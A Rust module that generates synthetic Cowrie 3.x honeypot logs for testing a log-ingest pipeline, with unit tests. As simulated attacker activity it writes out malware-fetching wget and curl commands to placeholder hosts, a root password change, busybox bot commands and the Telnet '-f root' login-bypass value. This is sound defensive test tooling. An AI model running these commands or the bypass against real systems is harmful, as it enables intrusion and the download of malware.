//! Sessions as Cowrie 3.x writes them (shapes taken from fixtures/cowrie3, a real 3.1.4 log):
//! `src_port`, `dst_ip`, `dst_port`, `protocol` and `uuid` on every event, `duration_ms`,
//! public-key attempts, terminal size and environment, stdin and script bodies, redirect
//! captures, SFTP and SCP uploads, TTY logs, port forwards with HTTP, TLS and SMTP inside
//! (redirected and tunnelled ones too), Telnet options, blank lines and the `-f root`
//! exploit, malformed packets, and `\xNN` credentials.

use std::io::{self, Write};

use chrono::Duration;
use rand::Rng;
use serde_json::{json, Value};

use super::Gen;

pub const SENSOR: &str = "honeypot-c";
const UUID: &str = "8119c948-ee94-11f1-ac0c-02fc00000001";
const KEY_TYPES: &[&str] = &["ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256"];
/// Credentials that are UTF-8 text, as 3.x writes them (`\xNN` per byte).
const ESCAPED: &[(&str, &str)] = &[
    (
        r"\xd0\xbf\xd0\xbe\xd0\xbb\xd1\x8c\xd0\xb7\xd0\xbe\xd0\xb2\xd0\xb0\xd1\x82\xd0\xb5\xd0\xbb\xd1\x8c",
        r"\xd0\xbf\xd0\xb0\xd1\x80\xd0\xbe\xd0\xbb\xd1\x8c",
    ),
    ("root", r"\xc3\xa9t\xc3\xa9"),
];
const TARGETS: &[(&str, i64)] =
    &[("www.example.com", 80), ("shop.example.org", 443), ("mx.example.net", 25), ("api.example.com", 8080)];

impl Gen {
    pub(super) fn session_v3(&mut self, out: &mut dyn Write) -> io::Result<()> {
        let sid = format!("{:012x}", self.rng.random::<u64>() & 0xffff_ffff_ffff);
        let ip = self.source_ip();
        let telnet = self.rng.random_ratio(1, 4);
        let (protocol, port) = if telnet { ("telnet", 2223) } else { ("ssh", 2222) };
        let src_port: u16 = self.rng.random_range(1024..65535);
        let base = json!({"session": sid, "src_ip": ip, "sensor": SENSOR, "protocol": protocol, "src_port": src_port,
            "dst_ip": "10.0.0.5", "dst_port": port, "uuid": UUID});
        self.t += Duration::milliseconds(self.rng.random_range(0..3000));
        let start = self.t;
        let e = |g: &mut Gen, out: &mut dyn Write, v: Value| g.emit(out, v, &base, true);
        e(
            self,
            out,
            json!({"eventid": "cowrie.session.connect",
            "message": format!("New connection: {ip}:{src_port} (10.0.0.5:{port}) [session: {sid}]")}),
        )?;
        if telnet {
            self.telnet_v3(out, &base)?;
        } else if self.rng.random_ratio(1, 15) {
            e(
                self,
                out,
                json!({"eventid": "cowrie.client.malformed_packet", "messagenum": 5, "datalen": 0, "data": "",
                "message": "Malformed SSH packet (message 5, 0 bytes); disconnecting"}),
            )?;
        } else {
            self.ssh_v3(out, &base)?;
        }
        let ms = (self.t - start).num_milliseconds() + 400;
        e(
            self,
            out,
            json!({"eventid": "cowrie.session.closed", "duration_ms": ms,
            "message": format!("Connection lost after {ms} milliseconds")}),
        )
    }

    fn ssh_v3(&mut self, out: &mut dyn Write, base: &Value) -> io::Result<()> {
        let e = |g: &mut Gen, out: &mut dyn Write, v: Value| g.emit(out, v, base, true);
        let v = self.pick(super::CLIENTS).trim_start_matches("b'").trim_end_matches('\'').to_string();
        e(
            self,
            out,
            json!({"eventid": "cowrie.client.version", "version": v, "message": format!("Remote SSH version: {v}")}),
        )?;
        let h = self.pick(super::HASSH);
        e(
            self,
            out,
            json!({"eventid": "cowrie.client.kex", "hassh": h, "hasshAlgorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
            "kexAlgs": ["curve25519-sha256"], "keyAlgs": ["ssh-ed25519"], "encCS": ["aes128-ctr"], "macCS": ["hmac-sha2-256"],
            "compCS": ["none"], "langCS": [""]}),
        )?;
        if self.rng.random_ratio(1, 3) {
            // A key attempt: the offer, then the failed login that carries the key.
            let kt = self.pick(KEY_TYPES);
            let fp: String = (0..16).map(|_| format!("{:02x}", self.rng.random::<u8>())).collect::<Vec<_>>().join(":");
            let key = format!("{kt} AAAA{:016x}", self.rng.random::<u64>());
            let u = self.pick(&["root", "admin", "git"]);
            e(
                self,
                out,
                json!({"eventid": "cowrie.client.fingerprint", "username": u, "fingerprint": fp, "key": key, "type": kt,
                "message": format!("public key attempt for user {u} of type {kt} with fingerprint {fp}")}),
            )?;
            e(
                self,
                out,
                json!({"eventid": "cowrie.login.failed", "username": u, "fingerprint": fp, "key": key, "type": kt,
                "message": format!("public key login attempt for [{u}] failed")}),
            )?;
        }
        for _ in 0..self.rng.random_range(0..3) {
            let (u, p) = if self.rng.random_ratio(1, 4) {
                ESCAPED[self.rng.random_range(0..ESCAPED.len())]
            } else {
                (self.pick(super::USERS), self.pick(super::PASSWORDS))
            };
            e(
                self,
                out,
                json!({"eventid": "cowrie.login.failed", "username": u, "password": p,
                "message": format!("login attempt [{u}/{p}] failed")}),
            )?;
        }
        if self.rng.random_ratio(1, 3) {
            return Ok(());
        }
        e(
            self,
            out,
            json!({"eventid": "cowrie.login.success", "username": "root", "password": "admin",
            "message": "login attempt [root/admin] succeeded"}),
        )?;
        if self.rng.random_ratio(1, 3) {
            return self.forwards_v3(out, base);
        }
        let (w, h) = (self.pick(&["80", "132", "200"]), self.pick(&["24", "43", "50"]));
        let (w, h): (i64, i64) = (w.parse().unwrap_or(80), h.parse().unwrap_or(24));
        e(
            self,
            out,
            json!({"eventid": "cowrie.client.size", "width": w, "height": h, "message": format!("Terminal Size: {w} {h}")}),
        )?;
        e(
            self,
            out,
            json!({"eventid": "cowrie.client.var", "name": "LANG", "value": "C.UTF-8", "message": "request_env: LANG=C.UTF-8"}),
        )?;
        e(self, out, json!({"eventid": "cowrie.session.params", "arch": "linux-x64-lsb", "message": ""}))?;
        let shell = |g: &mut Gen, out: &mut dyn Write, c: &str| g.command(out, c, base, true);
        for _ in 0..self.rng.random_range(1..4) {
            let c = self.pick(super::COMMANDS);
            shell(self, out, c)?;
        }
        match self.rng.random_range(0..6) {
            0 => {
                shell(self, out, "")?;
                shell(self, out, "cat > /tmp/.x")?;
                for l in ["#!/bin/sh", "wget http://198.51.100.23/x86 -O /tmp/.y"] {
                    e(
                        self,
                        out,
                        json!({"eventid": "cowrie.session.input", "realm": "cat", "input": l, "message": format!("INPUT (cat): {l}")}),
                    )?;
                }
                let sha = self.sha256();
                e(
                    self,
                    out,
                    json!({"eventid": "cowrie.session.file_download", "duplicate": false,
                    "outfile": format!("var/lib/cowrie/downloads/{sha}"), "shasum": sha, "destfile": "/tmp/.x",
                    "message": format!("Saved redir contents with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}")}),
                )?;
            }
            1 => {
                shell(self, out, "echo 'root:Xy12' | chpasswd")?;
                e(
                    self,
                    out,
                    json!({"eventid": "cowrie.command.chpasswd", "realm": "chpasswd", "username": "root",
                    "message": "Password change attempt for root"}),
                )?;
                shell(self, out, "echo 'id; uname -m' | sh")?;
                shell(self, out, "id; uname -m\n")?;
            }
            2 => {
                shell(self, out, "python -c 'import os'")?;
                e(
                    self,
                    out,
                    json!({"eventid": "cowrie.command.input", "realm": "python", "input": "print(1)",
                    "message": "INPUT (python): print(1)"}),
                )?;
            }
            3 => {
                let url = format!("http://203.0.113.{}/m.sh", self.rng.random_range(1..40));
                shell(self, out, &format!("wget {url}"))?;
                e(
                    self,
                    out,
                    json!({"eventid": "cowrie.session.file_download.failed", "url": url,
                    "message": format!("Attempt to download file(s) from URL ({url}) failed")}),
                )?;
            }
            4 => {
                let sha = self.sha256();
                if self.rng.random_bool(0.5) {
                    e(
                        self,
                        out,
                        json!({"eventid": "cowrie.session.file_upload", "filename": "upload.bin",
                        "outfile": format!("var/lib/cowrie/downloads/{sha}"), "shasum": sha,
                        "message": format!("SFTP Uploaded file \"upload.bin\" to var/lib/cowrie/downloads/{sha}")}),
                    )?;
                } else {
                    shell(self, out, "scp -t /tmp/")?;
                    e(
                        self,
                        out,
                        json!({"eventid": "cowrie.session.file_upload", "filename": "s.sh", "duplicate": false,
                        "url": "/tmp/s.sh", "outfile": sha, "shasum": sha, "destfile": "/tmp/s.sh",
                        "message": format!("SCP Uploaded file \"s.sh\" to {sha}")}),
                    )?;
                }
            }
            _ => {
                let url = self.pick(super::URLS);
                shell(self, out, &format!("curl -O {url}"))?;
                let sha = self.sha256();
                e(
                    self,
                    out,
                    json!({"eventid": "cowrie.session.file_download", "url": url,
                    "outfile": format!("var/lib/cowrie/downloads/{sha}"), "shasum": sha, "duplicate": false,
                    "message": format!("Downloaded URL ({url}) with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}")}),
                )?;
            }
        }
        let sha = self.sha256();
        let (size, ms) = (self.rng.random_range(100..5000), self.rng.random_range(10..20_000));
        e(
            self,
            out,
            json!({"eventid": "cowrie.log.closed", "ttylog": format!("var/lib/cowrie/tty/{sha}"), "size": size,
            "shasum": sha, "duplicate": false, "duration_ms": ms,
            "message": format!("Closing TTY Log: var/lib/cowrie/tty/{sha} after 1 seconds")}),
        )
    }

    fn forwards_v3(&mut self, out: &mut dyn Write, base: &Value) -> io::Result<()> {
        let e = |g: &mut Gen, out: &mut dyn Write, v: Value| g.emit(out, v, base, true);
        for _ in 0..self.rng.random_range(1..4) {
            let (host, port) = TARGETS[self.rng.random_range(0..TARGETS.len())];
            let orig = format!("10.0.{}.{}", self.rng.random_range(0..255), self.rng.random_range(1..255));
            e(
                self,
                out,
                json!({"eventid": "cowrie.direct-tcpip.request", "dst_ip": host, "dst_port": port,
                "orig_ip": orig, "orig_port": 51234, "message": format!("direct-tcp connection request to {host}:{port} from {orig}:51234")}),
            )?;
            let fwd = json!({"dst_ip": host, "dst_port": port});
            let with = |mut v: Value| {
                for (k, x) in fwd.as_object().expect("object") {
                    v[k] = x.clone();
                }
                v
            };
            let payload: Vec<u8> = match port {
                80 | 8080 => format!(
                    "GET /{} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
                    self.pick(&["", "login", "wp-login.php"])
                )
                .into_bytes(),
                443 => client_hello(host),
                _ => format!(
                    "EHLO {}\r\nMAIL FROM:<{}@spam.example>\r\n",
                    self.pick(&["spam.example", "relay.example"]),
                    self.pick(&["offers", "bulk"])
                )
                .into_bytes(),
            };
            if port == 8080 {
                // forward_tunnel: the data goes out through a proxy and is logged without its target.
                e(
                    self,
                    out,
                    with(json!({"eventid": "cowrie.direct-tcpip.tunnel", "new_ip": "127.0.0.1", "new_port": 3128,
                    "orig_ip": orig, "orig_port": 51234, "message": "tunneled direct-tcp connection request"})),
                )?;
                e(
                    self,
                    out,
                    with(
                        json!({"eventid": "cowrie.direct-tcpip.ja4h", "ja4h": "ge11nn030000_1c8f3b0e29d1_000000000000_000000000000",
                    "message": "JA4H fingerprint"}),
                    ),
                )?;
                e(
                    self,
                    out,
                    json!({"eventid": "cowrie.tunnelproxy-tcpip.data", "data": py_repr(&payload),
                    "message": "sending via tunnel proxy"}),
                )?;
                continue;
            }
            if port == 25 && self.rng.random_bool(0.5) {
                e(
                    self,
                    out,
                    with(json!({"eventid": "cowrie.direct-tcpip.redirect", "new_ip": "127.0.0.1", "new_port": 12525,
                    "orig_ip": orig, "orig_port": 51234, "message": "redirected direct-tcp connection request"})),
                )?;
                continue;
            }
            match port {
                443 => e(
                    self,
                    out,
                    with(json!({"eventid": "cowrie.direct-tcpip.ja4", "ja4": "t12d311100_e8f1e7e78f70_cf86beea0419",
                    "message": "JA4 fingerprint"})),
                )?,
                80 => e(
                    self,
                    out,
                    with(
                        json!({"eventid": "cowrie.direct-tcpip.ja4h", "ja4h": "ge11nn030000_1c8f3b0e29d1_000000000000_000000000000",
                    "message": "JA4H fingerprint"}),
                    ),
                )?,
                _ => {}
            }
            e(
                self,
                out,
                with(json!({"eventid": "cowrie.direct-tcpip.data", "data": py_repr(&payload), "id": 0,
                "message": format!("discarded direct-tcp forward request 0 to {host}:{port}")})),
            )?;
        }
        Ok(())
    }

    fn telnet_v3(&mut self, out: &mut dyn Write, base: &Value) -> io::Result<()> {
        let e = |g: &mut Gen, out: &mut dyn Write, v: Value| g.emit(out, v, base, true);
        for (cmd, name, byte) in [("WILL", "NAWS", 31), ("DO", "SGA", 3)] {
            e(
                self,
                out,
                json!({"eventid": "cowrie.telnet.option", "command": cmd, "option_name": name, "option_byte": byte,
                "message": format!("Telnet {cmd} {name}")}),
            )?;
        }
        if self.rng.random_ratio(1, 6) {
            return e(
                self,
                out,
                json!({"eventid": "cowrie.telnet.error", "error": "('Stumped', b'\\x07')",
                "message": "Telnet protocol error ('Stumped', b'\\x07'); dropping connection"}),
            );
        }
        if self.rng.random_ratio(1, 3) {
            e(
                self,
                out,
                json!({"eventid": "cowrie.client.var", "name": "USER", "value": "-f root", "message": "Telnet NEW-ENVIRON: USER=-f root"}),
            )?;
            e(
                self,
                out,
                json!({"eventid": "cowrie.telnet.exploit_attempt", "cve": "CVE-2026-24061", "name": "USER", "value": "-f root",
                "message": "CVE-2026-24061 exploit attempt detected: USER=-f root"}),
            )?;
            e(
                self,
                out,
                json!({"eventid": "cowrie.telnet.exploit_success", "cve": "CVE-2026-24061", "username": "root",
                "original_username": "-f root", "attempted_command": "uname -a",
                "message": "CVE-2026-24061 exploit successful: logging in as root"}),
            )?;
            e(
                self,
                out,
                json!({"eventid": "cowrie.login.success", "username": "root", "password": "",
                "message": "login attempt [root/] succeeded"}),
            )?;
        } else {
            let (u, p) = (self.pick(super::USERS), self.pick(super::PASSWORDS));
            e(
                self,
                out,
                json!({"eventid": "cowrie.login.success", "username": u, "password": p,
                "message": format!("login attempt [{u}/{p}] succeeded")}),
            )?;
        }
        e(self, out, json!({"eventid": "cowrie.session.params", "arch": "linux-arm-lsb", "message": ""}))?;
        // Telnet bots end lines with CRLF: Cowrie logs an empty command after each.
        for c in ["enable", "system", "sh", "/bin/busybox ECCHI"] {
            self.command(out, c, base, true)?;
            self.command(out, "", base, true)?;
        }
        Ok(())
    }
}

/// Bytes as Python 3's `repr` writes them, as Cowrie logs forwarded data.
fn py_repr(b: &[u8]) -> String {
    let mut s = String::from("b'");
    for &c in b {
        match c {
            b'\\' => s.push_str("\\\\"),
            b'\'' => s.push_str("\\'"),
            b'\n' => s.push_str("\\n"),
            b'\r' => s.push_str("\\r"),
            b'\t' => s.push_str("\\t"),
            0x20..=0x7e => s.push(c as char),
            _ => s.push_str(&format!("\\x{c:02x}")),
        }
    }
    s.push('\'');
    s
}

/// A minimal TLS 1.2 ClientHello record naming `host` (one cipher suite, the SNI extension).
fn client_hello(host: &str) -> Vec<u8> {
    let name = host.as_bytes();
    let mut sni = vec![0u8, 0];
    let list_len = name.len() + 3;
    sni.extend_from_slice(&((list_len + 2) as u16).to_be_bytes());
    sni.extend_from_slice(&(list_len as u16).to_be_bytes());
    sni.push(0);
    sni.extend_from_slice(&(name.len() as u16).to_be_bytes());
    sni.extend_from_slice(name);
    let mut hello = vec![3u8, 3];
    hello.extend_from_slice(&[7u8; 32]);
    hello.extend_from_slice(&[0, 0, 2, 0x13, 0x01, 1, 0]);
    hello.extend_from_slice(&(sni.len() as u16).to_be_bytes());
    hello.extend_from_slice(&sni);
    let mut hs = vec![1u8, 0];
    hs.extend_from_slice(&(hello.len() as u16).to_be_bytes());
    hs.extend_from_slice(&hello);
    let mut rec = vec![22u8, 3, 1];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::ingest::event::{text::py_bytes, tunnel::summarise};

    #[test]
    fn generated_forwards_say_what_real_ones_do() {
        let hello = client_hello("shop.example.org");
        assert_eq!(py_bytes(&py_repr(&hello)), hello);
        assert_eq!(summarise(&hello).tls_sni.as_deref(), Some("shop.example.org"));
        assert_eq!(py_bytes(&py_repr(b"it's \\ \r\n\x00")), b"it's \\ \r\n\x00");
    }

    #[test]
    fn every_3x_family_is_generated() {
        let mut v = Vec::new();
        super::super::generate(20_000, 3, &mut v).unwrap();
        let text = String::from_utf8(v).unwrap();
        for id in [
            "client.fingerprint",
            "client.size",
            "client.var",
            "client.malformed_packet",
            "session.params",
            "session.input",
            "log.closed",
            "command.chpasswd",
            "direct-tcpip.request",
            "direct-tcpip.redirect",
            "direct-tcpip.tunnel",
            "direct-tcpip.data",
            "direct-tcpip.ja4\"",
            "direct-tcpip.ja4h",
            "tunnelproxy-tcpip.data",
            "telnet.option",
            "telnet.error",
            "telnet.exploit_attempt",
            "telnet.exploit_success",
            "session.file_download.failed",
            "session.file_upload",
        ] {
            assert!(text.contains(&format!("\"cowrie.{id}")), "cowrie.{id} not generated");
        }
    }
}
